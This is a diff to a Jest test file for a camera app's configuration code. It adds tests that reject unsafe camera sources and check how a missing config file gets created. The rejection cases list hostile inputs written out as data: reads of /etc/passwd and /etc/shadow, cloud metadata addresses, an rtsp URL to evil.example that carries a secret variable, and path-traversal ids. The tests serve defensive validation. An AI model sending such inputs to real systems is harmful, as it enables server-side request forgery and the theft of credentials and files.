@@ -2,7 +2,7 @@ import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
 import { chmod, mkdtemp, readdir, readFile, rm, stat, symlink, lstat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { ConfigFile } from '../../src/config/index.js';
+import { ConfigFile, loadConfig, parseYaml } from '../../src/config/index.js';
 
 const TEXT = `# The yard, from the north.
 data: { eventsDays: 30 } # a month
@@ -133,6 +133,9 @@ describe('changing it', () => {
     ['a file as a source', gate({ source: '/etc/passwd' })],
     ['a file URL as a source', gate({ source: 'file:///etc/passwd' })],
     ['a list of files as a source', gate({ source: 'concat:/etc/passwd|/etc/shadow' })],
+    ['a metadata service as a source', gate({ source: 'http://169.254.169.254/latest' })],
+    ['the same in another form', gate({ source: 'http://0xa9fea9fe/latest' })],
+    ['a multicast group as a source', gate({ source: 'rtsp://239.1.1.1/1' })],
     ['a device as a source', { cameras: { spy: { source: '/dev/video0' } } }],
     ['a variable in an address', gate({ source: 'rtsp://evil.example/${ALARM_SECRET}' })],
     ['a variable in a name', gate({ name: '${ALARM_SECRET}' })],
@@ -179,5 +182,65 @@ describe('changing it', () => {
     expect((await lstat(link)).isSymbolicLink()).toBe(true);
     expect((await stat(file)).mode & 0o777).toBe(0o640);
     expect(await readFile(file, 'utf8')).toContain('eventsDays: 31');
+  });
+});
+
+describe('a file that is not there yet', () => {
+  const UNSAVED = '# Made by the first change.\ncameras:\n  demo: { source: /demo.mp4 }\n';
+  beforeEach(async () => {
+    await rm(file);
+    const apply = async () => void applied.push(await readFile(file, 'utf8'));
+    config = new ConfigFile({ file, env: ENV, labels: [], apply, unsaved: UNSAVED });
+  });
+
+  it('is shown as what is in force, and not made by looking', async () => {
+    expect((await config.read()).config).toEqual({ cameras: { demo: { source: '/demo.mp4' } } });
+    expect(await readdir(dir)).toEqual([]);
+  });
+
+  it('is made by the first change, for its owner alone, with what was in force', async () => {
+    await change({ cameras: { yard: { source: 'rtsp://yard.lan/1' } } });
+    const text = await readFile(file, 'utf8');
+    expect(text).toContain('# Made by the first change.');
+    expect(parseYaml(text)).toEqual({
+      cameras: { demo: { source: '/demo.mp4' }, yard: { source: 'rtsp://yard.lan/1' } },
+    });
+    expect((await stat(file)).mode & 0o777).toBe(0o600);
+    expect(applied).toEqual([text]);
+  });
+
+  it('is missed once it was there: what never was saved does not come back', async () => {
+    await change({ cameras: { yard: { source: 'rtsp://yard.lan/1' } } });
+    await rm(file);
+    await expect(config.read()).rejects.toMatchObject({ code: 'config/not-found' });
+  });
+
+  it('is not written over where somebody made it meanwhile', async () => {
+    const { etag } = await config.read();
+    await writeFile(file, TEXT);
+    await expect(config.change({ cameras: { yard: { name: 'Yard' } } }, etag)).rejects.toMatchObject({
+      code: 'config/changed-meanwhile',
+    });
+    expect(await readFile(file, 'utf8')).toBe(TEXT);
+  });
+});
+
+describe('the webcam of a browser', () => {
+  it('may be the source of a camera by its id alone', async () => {
+    await change(gate({ source: 'webcam:0b1f-6d4a' }));
+    const { cameras } = await loadConfig(file, ENV);
+    expect(cameras.find(({ id }) => id === 'gate')!.source).toBe('webcam:0b1f-6d4a');
+    for (const source of ['webcam:../secret', 'webcam:', 'WEBCAM:a', 'webcam:a\n'])
+      await expect(change(gate({ source }))).rejects.toMatchObject({ code: 'config/file-only' });
+  });
+});
+
+describe('a clip that the server was sent', () => {
+  it('may be the source of a camera by its id alone, and lies in the data folder', async () => {
+    await change(gate({ source: 'upload:0b1f-6d4a' }));
+    const { cameras, data } = await loadConfig(file, ENV);
+    expect(cameras.find(({ id }) => id === 'gate')!.source).toBe(path.join(data.dir, 'uploads', '0b1f-6d4a'));
+    for (const source of ['upload:../secret', 'upload:a/b', 'upload:', 'UPLOAD:a', 'upload:a\n'])
+      await expect(change(gate({ source }))).rejects.toMatchObject({ code: 'config/file-only' });
   });
 });
